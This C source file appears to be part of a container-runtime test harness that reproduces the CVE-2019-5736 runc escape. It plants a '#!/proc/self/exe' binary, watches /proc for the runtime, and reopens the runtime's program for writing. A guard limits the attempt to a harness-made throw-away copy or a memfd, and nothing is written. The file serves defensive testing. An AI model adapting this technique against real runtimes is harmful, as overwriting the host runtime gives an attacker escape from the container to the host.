/* SPDX-License-Identifier: Apache-2.0 */
/* The runtime's own program, as in CVE-2019-5736. The runtime that is aimed at
 * is a throw-away copy that the harness made, and whose identity it passes:
 * a file that is neither this copy nor a sealed memory file is not touched. */
#include "attack.h"
#include "deed.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int is_throw_away(int fd, const char *identity)
{
	char have[64], link[64], target[64] = "";
	struct stat st;

	if (fstat(fd, &st) < 0)
		return 0;
	snprintf(have, sizeof(have), "%llu:%llu", (unsigned long long)st.st_dev,
		 (unsigned long long)st.st_ino);
	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	if (readlink(link, target, sizeof(target) - 1) < 0)
		return 0;
	return strcmp(have, identity) == 0 || strncmp(target, "/memfd:", 7) == 0;
}

/* Reopen for writing until the program is no longer busy, half a second at
 * most, and append nothing: to have it open for writing is the deed. */
static long reopen_for_write(int fd)
{
	char link[64];
	int i, w = -1;

	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	for (i = 0; i < 100 && w < 0; i++) {
		w = open(link, O_WRONLY);
		if (w < 0 && errno != ETXTBSY)
			break;
		if (w < 0)
			usleep(5000);
	}
	if (w < 0)
		return -errno;
	close(w);
	return 0;
}

static void plant(const char *path)
{
	static const char line[] = "#!/proc/self/exe\n";
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0755);

	if (fd < 0 || write(fd, line, sizeof(line) - 1) < 0)
		deed_fail("cannot plant %s", path);
	fchmod(fd, 0755);
	close(fd);
}

/* The program of a process, if it is not one of this container's own. */
static int open_stranger(const char *pid)
{
	char link[64], target[4096];
	struct stat st;
	ssize_t n;
	int fd;

	snprintf(link, sizeof(link), "/proc/%s/exe", pid);
	n = readlink(link, target, sizeof(target) - 1);
	if (n <= 0)
		return -1;
	target[n] = '\0';
	if (stat(target, &st) == 0 && strncmp(target, "/bin/", 5) == 0)
		return -1;
	fd = open(link, O_RDONLY | O_CLOEXEC);
	return fd;
}

static int attack_overwrite_wait(char **argv)
{
	uint64_t deadline = boot_ns() + 20000000000u;
	struct dirent *entry;
	DIR *proc;
	int fd = -1;

	plant("/bin/victim");
	deed_ready();
	while (fd < 0 && boot_ns() < deadline) {
		proc = opendir("/proc");
		while (proc && fd < 0 && (entry = readdir(proc)))
			if (isdigit((unsigned char)entry->d_name[0]) &&
			    atoi(entry->d_name) != getpid())
				fd = open_stranger(entry->d_name);
		closedir(proc);
	}
	if (fd < 0)
		deed_fail("no runtime came by");
	if (!is_throw_away(fd, argv[0]))
		deed_fail("this is not the throw-away copy");

	deed_harm("runtime's program through /proc/PID/exe");
	return deed_done(reopen_for_write(fd));
}

static int attack_overwrite_fd(char **argv)
{
	int fd = atoi(argv[0]);

	if (!is_throw_away(fd, argv[1]))
		deed_fail("this is not the throw-away copy");
	deed_harm("runtime's program through /proc/self/exe");
	return deed_done(reopen_for_write(fd));
}

static const struct deed deeds[] = {
	/* DEV:INO of the copy that may be aimed at */
	{ "overwrite-wait", 1, attack_overwrite_wait },
	/* FD DEV:INO: second stage of the library */
	{ "overwrite-fd", 2, attack_overwrite_fd },
	{ 0 },
};
DEED_TABLE(deeds);
